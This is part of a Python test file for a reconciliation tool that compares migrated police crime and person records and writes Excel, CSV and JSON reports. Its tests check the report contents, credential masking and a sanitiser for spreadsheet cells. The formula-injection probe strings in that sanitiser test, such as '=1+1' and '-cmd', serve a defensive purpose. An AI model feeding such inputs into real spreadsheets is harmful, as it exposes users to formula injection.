        assert "'" + text.replace("\r", "\n") in texts
    assert "-2.500000" in texts and "-1" in texts
    assert "#DIV/0!" in texts  # an error-code look-alike stays text
    ws = wb["person MISSING"]
    assert ws.cell(row=2, column=header(ws)["detail"]).data_type == "s"


def test_summary_links_to_every_sheet(workbook):
    _, _, wb = workbook
    targets = set()
    for row in wb["Summary"].iter_rows():
        for c in row:
            if c.hyperlink is not None:
                assert c.hyperlink.location and not c.hyperlink.target  # inside the workbook
                targets.add(c.hyperlink.location.rsplit("!", 1)[0].strip("'").replace("''", "'"))
    assert targets == set(wb.sheetnames) - {"Summary"}
    for title in data_sheets(wb) + list(STATISTICS_SHEETS):  # and back
        back = [c for c in wb[title][1] if c.hyperlink is not None]
        assert [c.hyperlink.location for c in back] == ["'Summary'!A1"], title


def _summary_table(ws):
    """The Summary's "Every record accounted for": {row label: {entity: count}}."""
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    start = next(i for i, r in enumerate(rows) if r[0] == "Every record accounted for") + 1
    entities = [v for v in rows[start][1:] if v]
    table = {}
    for r in rows[start + 1:]:
        if not isinstance(r[1], int):
            break
        table[r[0]] = dict(zip(entities, r[1:]))
    return table


def test_summary_totals_equal_summary_json_and_csv(workbook):
    result, paths, wb = workbook
    doc = json.loads(paths["summary"].read_text())
    ws = wb["Summary"]
    table = _summary_table(ws)
    csv_counts = Counter((r[0], r[1]) for r in read_csv(paths["discrepancies"])[1:])
    for entity in ENTITIES:
        e = doc["entities"][entity]
        assert table["Missing from iOPS"][entity] == e["categories"]["MISSING"] == csv_counts[(entity, "MISSING")]
        assert table["… fields that differ (one row each)"][entity] == csv_counts[(entity, "ALTERED")]
        assert table["Surplus iOPS copies of a record"][entity] == csv_counts[(entity, "DUPLICATE")]
        assert table["In iOPS with an OPUS key no live OPUS record has"][entity] == csv_counts[(entity, "UNEXPECTED")]
        assert table["Paired by similarity (AUTO or REVIEW)"][entity] == csv_counts[(entity, "PROBABLE_MATCH")]
        assert table["Records with a field that differs"][entity] == e["records_affected"]["ALTERED"] == len(
            {r[2] for r in read_csv(paths["discrepancies"])[1:] if (r[0], r[1]) == (entity, "ALTERED")})
        assert table["Live in OPUS (not marked deleted)"][entity] == result.totals[entity].legacy_total
        assert table["Records in iOPS"][entity] == result.totals[entity].new_total
        assert table["… of them not migrated by the mapping's rules (reason given)"][entity] == e["missing_explained"]
        assert table["Counted against the failure threshold"][entity] == e["counted_failures"]
    counted = table["Counted against the failure threshold"]
    assert sum(counted[e] for e in ENTITIES) == counted["All"] == result.counted_failures
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "FAIL" in values
    assert any("mysql+pymysql://root@127.0.0.1:3306/opus" in str(v) for v in values)


def test_summary_json_checksums_match_the_files(written):
    _, paths = written
    doc = json.loads(paths["summary"].read_text())
    assert set(doc["sha256"]) == {"discrepancies.csv", "crime_stats.csv", "reconciliation.xlsx", "crime_map.png"}
    for name, digest in doc["sha256"].items():
        assert hashlib.sha256((paths["summary"].parent / name).read_bytes()).hexdigest() == digest, name


def test_crime_statistics_sheet_and_chart(workbook):
    _, paths, wb = workbook
    ws = wb["Crime statistics"]
    assert [c.value for c in ws[1]][: len(STATS_COLUMNS)] == list(STATS_COLUMNS)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    stats = tricky_stats()
    rows = list(ws.iter_rows(min_row=2, max_col=len(STATS_COLUMNS)))
    assert len(rows) == len(stats)
    for row, s in zip(rows, stats):
        assert isinstance(row[0].value, dt.datetime) and row[0].number_format == "yyyy-mm"
        assert row[0].value == dt.datetime(int(s.month[:4]), int(s.month[5:]), 1)
        assert row[5].value == s.delta
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert any(r.operator == "lessThan" and r.formula == ["0"] and r.dxf.fill is not None for r in rules)
    assert any("F2" in str(cf.sqref) for cf in ws.conditional_formatting)

    monthly = wb["Monthly totals"]
    months = list(monthly.iter_rows(min_row=2, max_col=6, values_only=True))
    assert [m[0] for m in months] == [dt.datetime(2019, 1, 1), dt.datetime(2019, 2, 1), dt.datetime(2019, 3, 1)]
    for month, legacy, not_migrated, expected, new, delta in months:
        key = month.strftime("%Y-%m")
        assert legacy == expected == sum(s.legacy_count for s in stats if s.month == key) and not_migrated == 0
        assert new == sum(s.new_count for s in stats if s.month == key)
        assert delta == new - legacy
    # The monthly delta as bars, up to go-live and after it (no go-live known here: no marker).
    assert xlsx_charts(paths["workbook"]) == {"Monthly totals": [
        ("barChart", ["'Monthly totals'!$F$2:$F$4", "'Monthly totals'!$I$2:$I$4"])]}


def xlsx_charts(path) -> dict[str, list[tuple[str, list[str]]]]:
    """Per sheet, its charts as (kind, the cell ranges of its series), read from the file's parts
    (openpyxl reads charts into a private attribute only)."""
    from xml.etree import ElementTree

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
          "c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
          "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
          "rel": "http://schemas.openxmlformats.org/package/2006/relationships"}

    def rels(z, part):
        folder, name = part.rsplit("/", 1)
        path = f"{folder}/_rels/{name}.rels"
        if path not in z.namelist():
            return {}
        return {r.get("Id"): (t.lstrip("/") if (t := r.get("Target")).startswith("/") else os.path.normpath(f"{folder}/{t}"))
                for r in ElementTree.fromstring(z.read(path)).findall("rel:Relationship", ns)}

    charts = {}
    with zipfile.ZipFile(path) as z:
        book, book_rels = ElementTree.fromstring(z.read("xl/workbook.xml")), rels(z, "xl/workbook.xml")
        for sheet in book.find("m:sheets", ns):
            part = book_rels[sheet.get(f"{{{ns['r']}}}id")]
            for drawing in rels(z, part).values():
                for chart_part in (p for p in rels(z, drawing).values() if "/charts/" in p):
                    plot = ElementTree.fromstring(z.read(chart_part)).find("c:chart/c:plotArea", ns)
                    for kind in plot:
                        series = [f.text for f in kind.findall("c:ser/c:val/c:numRef/c:f", ns)]
                        if series:
                            charts.setdefault(sheet.get("name"), []).append((kind.tag.split("}")[1], series))
    return charts


def test_run_information_has_real_datetimes(workbook):
    result, _, wb = workbook
    ws = wb["Run information"]
    info = {row[0].value: row[1].value for row in ws.iter_rows(min_row=3) if row[0].value}
    assert info["Started (UK time)"] == dt.datetime(2024, 5, 1, 10, 0, 5)  # 09:00:05Z in BST
    assert info["Finished (UK time)"] == dt.datetime(2024, 5, 1, 10, 2, 13)
    assert info["Tool version"] == "opus2iops 0.1.0"
    assert info["Mapping digest (code tables used)"] == "sha256:0123456789abcdef"
    assert info["New store (iOPS)"] == "postgresql+psycopg://auditor:***@db.example/iops"
    assert info["Threshold: review"] == 70


def test_row_limit_splits_onto_numbered_sheets(tmp_path):
    rows = [Discrepancy("crime", "MISSING", f"CR/{i:06d}/19", detail="NOT_MIGRATED") for i in range(25)]
    rows += [Discrepancy("person", "MISSING", str(70000 + i)) for i in range(9)]
    paths = write_reconciliation_reports(make_result(rows, stats=[]), tmp_path / "split",
                                         max_sheet_rows=10)  # 9 data rows per sheet
    wb = openpyxl.load_workbook(paths["workbook"])
    assert data_sheets(wb) == ["crime MISSING", "crime MISSING (2)", "crime MISSING (3)", "person MISSING"]
    assert [wb[t].max_row - 1 for t in data_sheets(wb)] == [9, 9, 7, 9]
    assert [r[2] for r in read_csv(paths["discrepancies"])[1:26]] == [
        v for t in data_sheets(wb)[:3] for (v,) in wb[t].iter_rows(min_row=2, max_col=1, values_only=True)]
    assert all(wb[t].data_validations.dataValidation for t in data_sheets(wb))  # drop-downs on every part
    links = {c.hyperlink.location for row in wb["Summary"].iter_rows() for c in row if c.hyperlink}
    assert {"'crime MISSING (2)'!A1", "'crime MISSING (3)'!A1"} <= links
    assert len(read_csv(paths["discrepancies"])) == 1 + 34  # the CSV always holds everything


def test_awkward_text_in_the_workbook(tmp_path):
    long_text = "x" * 40_000
    rows = [
        Discrepancy("crime", "ALTERED", "CR/000001/19", "CR/000001/19", "mo_text", long_text, long_text, "short"),
        Discrepancy("crime", "ALTERED", "CR/000002/19", "CR/000002/19", "mo_text", "bell\x07here", "a\nb\nc", "d"),
    ]
    paths = write_reconciliation_reports(make_result(rows), tmp_path / "awk")
    csv_rows = read_csv(paths["discrepancies"])
    # The CSV holds it all; a control character is shown by its code there too (reports/safe.py).
    assert csv_rows[1][5] == long_text and csv_rows[2][5] == "bell\\x07here"
    ws = openpyxl.load_workbook(paths["workbook"])["crime ALTERED"]
    legacy, expected = (get_column_letter(header(ws)[n]) for n in ("legacy_value", "expected_value"))
    assert len(ws[f"{legacy}2"].value) <= xlsx.MAX_CELL_CHARS and "the CSV holds the whole value" in ws[f"{legacy}2"].value
    assert ws[f"{legacy}3"].value == "bell\\x07here"
    assert ws[f"{expected}3"].value == "a\nb\nc" and ws[f"{expected}3"].alignment.wrap_text
    assert ws.row_dimensions[3].height == 3 * xlsx.LINE_HEIGHT


# ---- console text -------------------------------------------------------------------------
def test_console_summary(written):
    result, paths = written
    text = render_reconciliation(result)
    assert text.startswith("Reconciliation FAIL")
    assert "postgresql+psycopg://auditor:***@db.example/iops" in text
    for path in paths.values():
        assert str(path) in text
    crime_line = next(line for line in text.splitlines() if line.strip().startswith("crime "))
    # MISSING ALTERED DUPLICATE UNEXPECTED PROBABLE_MATCH PROBABLE_DUPLICATE, explained, counted
    assert crime_line.split()[3:] == ["3", "5", "1", "1", "3", "0", "1", "9"]
    all_line = next(line for line in text.splitlines() if line.strip().startswith("all "))
    assert all_line.split()[-1] == str(result.counted_failures)


def test_simulation_and_demo_render_what_their_result_says():
    class WithLines:
        def summary_lines(self):
            return ["simulated 12 lost crimes", f"target postgresql://u:{PASSWORD}@h/db"]

    text = render_simulation(WithLines())
    assert text.splitlines()[0] == "simulated 12 lost crimes" and PASSWORD not in text
    assert render_demo(WithLines()) == text
    assert render_demo("demo written to ./demo") == "demo written to ./demo"


# ---- rules in isolation -------------------------------------------------------------------
@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-cmd", "'-cmd"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-2.5", "-2.5"), ("-1", "-1"), ("+44", "+44"), ("1e-3", "1e-3"), ("-", "'-"), ("", ""), ("plain", "plain"),
    ("O'Brien", "O'Brien"), (" =1", " =1"),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text):
    out = neutralise(text)
    assert not needs_neutralising(out)
    assert out in (show_invisible(text), "'" + show_invisible(text))
    assert neutralise(out) == out


@given(user=st.from_regex(r"[a-z][a-z0-9_]{0,10}", fullmatch=True),
       password=st.text(alphabet=st.characters(blacklist_characters="@/ \t\r\n\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0",
                                               blacklist_categories=("Cs", "Zs", "Zl", "Zp", "Cc")), min_size=1))
def test_mask_credentials(user, password):
    url = f"postgresql+psycopg://{user}:{password}@db.example:5432/iops"
    assert mask_credentials(url) == f"postgresql+psycopg://{user}:***@db.example:5432/iops"
    assert mask_credentials(mask_credentials(url)) == mask_credentials(url)


def test_mask_leaves_passwordless_urls_alone():
    for url in ("sqlite:///opus.db", "mysql+pymysql://root@127.0.0.1:3306/opus", "postgresql://h:5432/db"):
        assert mask_credentials(url) == url


def test_sheet_titles_are_valid_and_unique():
    taken: set[str] = set()
    assert xlsx.sheet_title("crime MISSING", taken) == "crime MISSING"
    assert xlsx.sheet_title("CRIME missing", taken) == "CRIME missing ~2"  # Excel ignores case
    assert xlsx.sheet_title("a/b:c?d*e[f]g\\h", taken) == "a_b_c_d_e_f_g_h"
    long = xlsx.sheet_title("crime_person PROBABLE_MATCH", taken, " (10)")
    assert len(long) <= 31 and long.endswith(" (10)")
